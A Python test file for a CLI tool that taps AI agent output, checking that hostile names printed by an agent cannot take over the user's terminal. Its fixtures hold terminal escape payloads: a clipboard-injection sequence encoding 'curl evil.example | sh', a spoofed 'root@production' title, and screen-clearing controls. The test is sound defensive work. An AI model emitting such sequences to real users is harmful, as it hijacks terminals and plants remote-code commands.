"""An agent prints names that take over a terminal, and the user looks at them with every command that shows names.

`tests/cli/hostile` runs all commands; here are real processes on a real terminal, from the agent to the user's eyes.
"""

from __future__ import annotations

import json
import os
from collections.abc import Iterator
from pathlib import Path
from typing import NamedTuple

import pytest

from tests.cli.command import CLAUDE, COMMAND, here, tooltap
from tests.cli.screen import started
from tests.cli.tap.spooling import until
from tests.daemon.running import Running, running

CLIPBOARD = "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaAo=\x07"
TITLE = "\x1b]0;root@production\x07"
C1 = "\x9d52;c;Y3VybA==\x9c\x9b2J\x7f"
"""The same without an escape character."""
NAME = f"{CLIPBOARD}{TITLE}\x07{C1}"
LONG = NAME + "x" * 200_000
NAMES = (NAME, LONG[:20_000], f"mcp__{NAME}__{NAME}")
LINES = 3 + 2 * len(NAMES) + 1
ACTING = (b"\x1b]", b"\x07", b"\xc2\x9b", b"\xc2\x9d", b"\x7f", b"\x1b[2J")
LONGEST = 40_000
"""Bytes that a command may print of these few events."""


class Tapped(NamedTuple):
    daemon: Running
    recording: Path


def printed() -> bytes:
    """The output of a hostile agent: names, a title, a folder, texts."""
    first, call, answer, text, last = map(json.loads, CLAUDE.read_bytes().splitlines())
    first |= {"cwd": f"/{LONG}", "model": NAME, "claude_code_version": NAME}
    lines = [first]
    for number, name in enumerate(NAMES):
        call["message"]["content"][0] |= {"id": str(number), "name": name, "input": {"command": NAME, NAME: NAME}}
        answer["message"]["content"][0] |= {"tool_use_id": str(number), "content": NAME}
        lines += [json.loads(json.dumps(one)) for one in (call, answer)]
    text["message"]["content"][0]["text"] = NAME
    unknown = {"type": f"new{NAME}", "session_id": first["session_id"], NAME: NAME}
    return b"".join(json.dumps(one).encode() + b"\n" for one in (*lines, text, unknown, last))


@pytest.fixture(scope="module")
def tapped(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Tapped]:
    """A daemon that has tapped the agent, and what the agent printed."""
    folder = tmp_path_factory.mktemp("tapped")
    recording = folder / "printed.jsonl"
    recording.write_bytes(printed())
    with running(folder) as daemon:
        finished = tooltap("run", "--socket", daemon.path, "--", "cat", recording)
        assert finished.returncode == 0, finished
        assert finished.stdout == recording.read_bytes(), "what the agent prints is the agent's, and unchanged"
        with daemon.connect() as wire:  # an agent that keeps running
            wire.send("ingest", stream="open", dialect="claude-stream")
            wire.read()
            wire.write(recording.read_bytes())
            until(lambda: ("open", LINES) in [(one["stream"], one["lines"]) for one in daemon.stats()["perStream"]])
            yield Tapped(daemon, recording)


WORDS = {
    "stats": ("stats",),
    "ingest --stats": ("ingest", "--stats", "RECORDING"),
    "normalize --stats": ("normalize", "--stats", "RECORDING"),
    "drift": ("drift", "RECORDING"),
    "fixtures keys": ("fixtures", "keys", "RECORDING"),
    "sessions": ("sessions",),
    "tail": ("tail", "--mode", "verbose", "--after", "start", "--no-follow"),
    "show": ("show", "3"),
    "an error": ("sessions", "rm", NAME + "x" * 400),
}
EVENTS = ("normalize --stats", "show")
"""Their standard output is JSON, of which only the terminal's lines are not as long as the texts."""


def shown(words: list[str], *, on_a_terminal: bool) -> bytes:
    if not on_a_terminal:
        finished = here(*words)
        return finished.stderr if "normalize" in words else finished.stdout + finished.stderr
    with started([*COMMAND, *words], {**os.environ, "TERM": "xterm-256color"}, size=(24, 300)) as screen:
        screen.end()
    return screen.shown


@pytest.mark.parametrize("on_a_terminal", [True, False], ids=["terminal", "pipe"])
@pytest.mark.parametrize("what", WORDS)
def test_names_do_not_act(what: str, on_a_terminal: bool, tapped: Tapped, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("TOOLTAP_SOCKET", str(tapped.daemon.path))
    words = [str(tapped.recording) if word == "RECORDING" else word for word in WORDS[what]]
    printed = shown(words, on_a_terminal=on_a_terminal)

    assert b"52;c;" in printed or what in ("drift", "fixtures keys"), "the attack is not there"
    assert [one for one in ACTING if one in printed] == []
    if what not in EVENTS:
        assert len(printed) < LONGEST
